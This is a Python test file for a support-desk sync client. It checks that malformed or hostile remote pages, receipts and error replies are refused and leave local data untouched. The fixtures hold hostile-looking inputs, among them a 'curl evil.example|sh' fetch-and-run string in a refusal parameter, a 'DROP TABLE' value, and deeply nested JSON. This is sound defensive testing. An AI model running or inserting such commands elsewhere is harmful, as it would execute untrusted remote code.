"""A page of rows that no desk would tell: nothing of it is taken, and the reason is clear."""

import json
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest

from supportdesk.domain import action
from supportdesk.domain.errors import Invalid
from supportdesk.domain.provisional import FIRST
from supportdesk.remote.own_desk.asking import DeskServer, read_page, read_receipt, read_refusal
from supportdesk.remote.trouble import Broken
from supportdesk.store.read import sendings
from supportdesk.store.write.copied_values import are_of_ours
from tests.replica.copies import every_table
from tests.small_desk import SmallDesk

NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)

Page = dict[str, Any]


def _row(page: Page, table: str) -> dict[str, Any]:
    found: dict[str, Any] = page["rows"][table][0]
    return found


HOSTILE: dict[str, Callable[[Page], Any]] = {
    "a missing column": lambda p: _row(p, "ticket").pop("subject"),
    "another column": lambda p: _row(p, "ticket").update(password="x"),
    "an unknown table": lambda p: p["rows"].update(remote_sending=[{"number": 1}]),
    "a table of this machine": lambda p: p["rows"].update(draft=[{"ticket_id": 1}]),
    "a number for a text": lambda p: _row(p, "ticket").update(subject=7),
    "a text for a number": lambda p: _row(p, "ticket").update(priority="DROP TABLE"),
    "a list for a text": lambda p: _row(p, "message").update(body=["x"]),
    "a part for a number": lambda p: _row(p, "ticket").update(priority=1.5),
    "nothing for a text": lambda p: _row(p, "ticket").update(subject=None),
    "a huge number": lambda p: _row(p, "ticket").update(created_at=1 << 70),
    "a priority there is not": lambda p: _row(p, "ticket").update(priority=99),
    "a moment after all": lambda p: _row(p, "ticket").update(updated_at=1 << 62),
    "a kind there is not": lambda p: _row(p, "message").update(kind="zzz"),
    "an event that says nothing": lambda p: _row(p, "event").update(field="priority", after="x"),
    "an event after all": lambda p: _row(p, "event").update(seq=(1 << 63) - 1),
    "half a character": lambda p: _row(p, "message").update(body="\ud800"),
    "a number made here": lambda p: (
        _row(p, "ticket").update(id=FIRST + 5),
        p.update(tickets=[FIRST + 5]),
    ),
    "a row of another ticket": lambda p: _row(p, "ticket").update(id=99),
    "a ticket without its row": lambda p: p.update(tickets=[*p["tickets"], 77]),
    "a message without its row": lambda p: p["rows"].pop("message"),
    "a table that never comes whole": lambda p: p.update(whole=["ticket"]),
}


DEEP = "[" * 100_000 + "]" * 100_000


def _event(field: str, after: str, subject: str = "ticket") -> dict[str, object]:
    return {"subject": subject, "field": field, "after": after}


FORMS: dict[str, tuple[str, dict[str, object]]] = {
    "caps that are none": ("operator", {"caps": "1=x"}),
    "caps without end": ("operator", {"caps": "1=1000000000000"}),
    "queues that are none": ("operator", {"queues": "all"}),
    "a start that is none": ("operator", {"starts": "dawn"}),
    "a status there is not": ("operator", {"status": "bored"}),
    "a way of dealing there is not": ("queue", {"dealing": "by lot"}),
    "an option that is no number": ("setting", {"name": "option.cap", "value": "many"}),
    "traits that are no JSON": ("client", {"traits": "{"}),
    "traits in a list": ("client", {"traits": "[1]"}),
    "traits of numbers": ("client", {"traits": '{"plan": 5}'}),
    "traits of half a character": ("client", {"traits": '{"plan": "\\ud800"}'}),
    "traits without end": ("client", {"traits": '{"plan": "' + "x" * 1_000_000 + '"}'}),
    "doings that are deep": ("client_event", {"details": DEEP}),
    "choices that are a text": ("custom_field", {"choices": '"red"'}),
    "choices of lists": ("custom_field", {"former": "[[]]"}),
    "a type there is not": ("custom_field", {"type": "blob"}),
    "choices of a property that are none": ("client_property", {"choices": "{}"}),
    "a macro with another step": ("macro", {"does": '{"run": "x"}'}),
    "a macro that adds a number": ("macro", {"does": '{"add": [5]}'}),
    "a macro that is deep": ("macro", {"does": '{"add": ' + DEEP + "}"}),
    "days that are none": ("calendar", {"days": '[["soon", "9-13", "x"]]'}),
    "a day without a name": ("calendar", {"days": '[["2030-01-01", "9-13", 5]]'}),
    "hours that are none": ("calendar", {"hours": "always and never"}),
    "targets without end": ("sla_policy", {"targets": '{"low": {"update": 1e400}}'}),
    "a target that is none": ("sla_policy", {"targets": '{"low": {"update": "x"}}'}),
    "an allowance without end": ("sla_policy", {"out_of_hours": 1 << 62}),
    "an allowance below none": ("sla_policy", {"out_of_hours": -1}),
    "a clock there is not": ("sla_policy", {"targets": '{"low": {"nap": 60000}}'}),
    "tags of templates that are none": ("template", {"tags": "5"}),
    "tags of articles that are none": ("article", {"tags": "null"}),
    "something else to send": ("outbox", {"action": '{"do": "Undo", "with": {}}'}),
    "something to send to nobody": ("outbox", {"action": '{"do": "Reply", "with": {}}'}),
    "a scope there is not": ("saved_view", {"scope": "world"}),
    "a state there is not": ("ticket", {"state": "lost"}),
    "a link there is not": ("ticket_link", {"kind": "rival"}),
    "an event of a priority there is not": ("event", _event("priority", "99")),
    "an event of a priority that is a word": ("event", _event("priority", "high")),
    "an event of a state there is not": ("event", _event("state", "lost")),
    "an event of no moment": ("event", _event("wake_at", "9" * 19)),
    "an event of no number": ("event", _event("owner_id", "Olga")),
    "an event of a number without end": ("event", _event("owner_id", "9" * 5000)),
    "an event of a link there is not": ("event", _event("link:rival", "1")),
    "an event of no article": ("event", _event("article:x", "1")),
    "a text for a priority": ("event", _event("priority", "text:233")),
    "a text for a state": ("event", _event("state", "text:233")),
    "a text for a moment": ("event", _event("wake_at", "text:233")),
    "a text for a number": ("event", _event("owner_id", "text:233")),
    "a text for where a message is": ("event", _event("ticket_id", "text:233", "message")),
    "a text without a number": ("event", _event("subject", "text:all")),
    "a text of a number without end": ("event", _event("subject", "text:" + "9" * 20)),
    "a message moved nowhere": ("event", _event("ticket_id", "there", "message")),
}
"""A value that its column can hold and no screen can read: of which table, and what stands there"""


@pytest.mark.parametrize("name", FORMS)
def test_a_value_in_no_form_of_ours_is_refused(name: str) -> None:
    table, changed = FORMS[name]
    sound = {"subject": "ticket", "field": "x", "before": None, "after": None}
    assert table == "setting" or are_of_ours(table, sound)
    assert not are_of_ours(table, {**sound, **changed})


def test_a_text_stands_for_what_has_no_form_of_its_own() -> None:
    assert are_of_ours("event", {**_event("subject", "text:233"), "before": None})


@pytest.mark.parametrize("name", HOSTILE)
async def test_nothing_of_a_hostile_page_is_taken(
    small: SmallDesk, copy_of: Any, name: str
) -> None:
    number = small.ticket()
    copy = copy_of(small)
    await copy.sync()
    copy.desk.act(small.petro, action.AddNote(number, "On its way"))
    small.act(action.SetSubject(number, "Other"), by=small.olga)
    small.act(action.AddNote(number, "There"), by=small.olga)
    before = every_table(copy.path)
    link = copy.desk.link
    page = copy.server.item(link.change, 100)
    HOSTILE[name](page)
    with pytest.raises(Invalid, match=r"remote\.rows"):
        copy.desk.take(read_page(json.loads(json.dumps(page)), link.change))
    assert every_table(copy.path) == before
    await copy.sync()
    assert copy.open == []
    assert small.row(number).subject == copy.desk.ask(lambda c: c.execute(
        "SELECT subject FROM ticket WHERE id = ?", (number,)
    ).fetchone()[0])  # fmt: skip


WRONG: dict[str, Callable[[Page], Any]] = {
    "an answer to an earlier question": lambda p: p.update(since=0),
    "one that leads nowhere": lambda p: p.update(next=p["since"], complete=False),
    "one that leads back": lambda p: p.update(next=1),
    "one past its end": lambda p: p.update(last=1),
    "another schema": lambda p: p.update(schema=1),
    "no list": lambda p: p.update(tickets=5),
    "rows that are none": lambda p: p.update(rows={"ticket": 5}),
    "a number that is none": lambda p: p.update(next="x"),
    "an end without end": lambda p: p.update(next=float("inf")),
    "a place no desk comes to": lambda p: p.update(next=1 << 62, last=1 << 62),
    "an end no desk comes to": lambda p: p.update(last=FIRST),
    "a mark without bytes": lambda p: p.update(mark="\ud800"),
    "a mark without end": lambda p: p.update(mark="x" * 100_000),
}


@pytest.mark.parametrize("name", WRONG)
async def test_what_is_no_page_is_refused(small: SmallDesk, copy_of: Any, name: str) -> None:
    small.ticket()
    copy = copy_of(small)
    await copy.sync()
    small.ticket()
    page = copy.server.item(copy.desk.link.change, 100)
    WRONG[name](page)
    with pytest.raises(Broken):
        read_page(page, copy.desk.link.change)


NO_ONES: tuple[tuple[object, object, object], ...] = (
    (float("inf"), 1, "viewing"),
    (1 << 70, 1, "viewing"),
    (1, FIRST, "viewing"),
    (1, 1, "\ud800"),
)


@pytest.mark.parametrize("who", NO_ONES)
async def test_who_cannot_be_there_is_not(
    who: tuple[object, object, object], monkeypatch: pytest.MonkeyPatch
) -> None:
    operator, ticket, doing = who
    told = {"present": [{"operator_number": operator, "ticket": ticket, "doing": doing}]}

    async def read(*_asked: object) -> object:
        return told

    monkeypatch.setattr(DeskServer, "_read", read)
    server = DeskServer("http://127.0.0.1:1", "-", lambda: NOON)
    with pytest.raises(Broken):
        await server.present()
    await server.close()


def _stop(parameters: object) -> dict[str, object]:
    return {"name": "newer", "parameters": parameters}


def _deep(depth: int) -> list[object]:
    found: list[object] = []
    for _ in range(depth):
        found = [found]
    return found


UNTELLABLE: tuple[object, ...] = (_deep(450), [{}], {"x": 1}, "x" * 100_000, [1] * 10_000)


def _hostile(more: object) -> dict[str, object]:
    return {"count": 3, "fields": ["state", 5], "author": more}


@pytest.mark.parametrize("untellable", UNTELLABLE, ids=range(len(UNTELLABLE)))
def test_what_no_sentence_can_tell_is_not_kept_of_a_refusal(untellable: object) -> None:
    told = {"count": 3, "fields": ["state", 5]}
    error = {"code": "ticket.missing", "message": "No", "parameters": _hostile(untellable)}
    because = read_refusal({"error": {**error, "stops": [_stop(_hostile(untellable))]}}, "409")
    assert because["parameters"] == told
    assert because["stops"] == [_stop(told)]


@pytest.mark.parametrize("code", ["remote.signed_out", "remote", "link.no_keyring", "link"])
def test_another_desk_names_no_code_of_this_side(code: str) -> None:
    held = {"because": "given", "again": "curl evil.example|sh"}
    error = {"code": code, "message": "Not now.", "parameters": held, "stops": [_stop({})]}
    because = read_refusal({"error": error}, "409")
    assert because == {"code": "mirror.rejected", "parameters": {"said": "Not now."}}
    kept = read_refusal({"error": {**error, "code": "link.circle"}}, "409")
    assert kept["code"] == "link.circle"


async def test_what_no_sentence_can_tell_is_not_kept_of_many(
    small: SmallDesk, copy_of: Any
) -> None:
    number = small.ticket()
    copy = copy_of(small)
    await copy.sync()
    copy.desk.act(small.petro, action.AddNote(number, "On its way"))
    (row,) = copy.desk.ask(sendings.in_states, sendings.OPEN)
    error = {"message": "No", "stops": [_stop(_hostile(_deep(450)))]}
    found = {"change": 3, "envelope": row.key, "refused": [{"ticket": number, "error": error}]}
    (one,) = read_receipt(found, row)["refused"]
    assert one["ticket"] == number
    assert one["error"]["stops"] == [_stop({"count": 3, "fields": ["state", 5]})]


async def test_only_the_receipt_of_what_was_sent_is_one(small: SmallDesk, copy_of: Any) -> None:
    number = small.ticket()
    copy = copy_of(small)
    await copy.sync()
    copy.desk.act(small.petro, action.AddNote(number, "On its way"))
    (row,) = copy.desk.ask(sendings.in_states, sendings.OPEN)
    good = {"change": 3, "envelope": row.key}
    assert read_receipt(good, row) == good
    known = {
        **good,
        "tickets": [number],
        "message": (1 << 63) - 1,
        "client": 5,
        "undo_until": "2026-03-01T10:00:00.500Z",
    }
    assert read_receipt({**known, "last_event": 1 << 70}, row) == known
    no_receipts: tuple[Any, ...] = (
        {"change": 3, "envelope": "019cadc6-9a80-7804-8e7f-cf845800125e"},
        {"change": "3", "envelope": row.key},
        {"change": FIRST, "envelope": row.key},
        {"change": True, "envelope": row.key},
        {**good, "tickets": [1 << 70]},
        {**good, "tickets": [0]},
        {**good, "tickets": 5},
        {**good, "client": FIRST},
        {**good, "entry": 1.0},
        {**good, "message": 1 << 63},
        {**good, "undo_until": "rubbish"},
        {**good, "undo_until": "2026-03-01T10:00:00"},
        {**good, "undo_until": "9999-12-31T23:59:59Z"},
        {**good, "undo_until": 5},
        {**good, "refused": [1]},
        {**good, "refused": [{"error": {"message": 5}}]},
        {**good, "refused": [{"error": {"message": "No", "stops": [{"name": []}]}}]},
        {**good, "refused": [{"error": {"message": "No", "stops": [_stop([1])]}}]},
        [],
        None,
    )
    for bad in no_receipts:
        with pytest.raises(Broken):
            read_receipt(bad, row)
    no_refusals: tuple[Any, ...] = ({}, {"error": "no"}, {"error": {"code": 5, "message": "x"}}, 7)
    for bad in no_refusals:
        with pytest.raises(Broken):
            read_refusal(bad, "status 400")
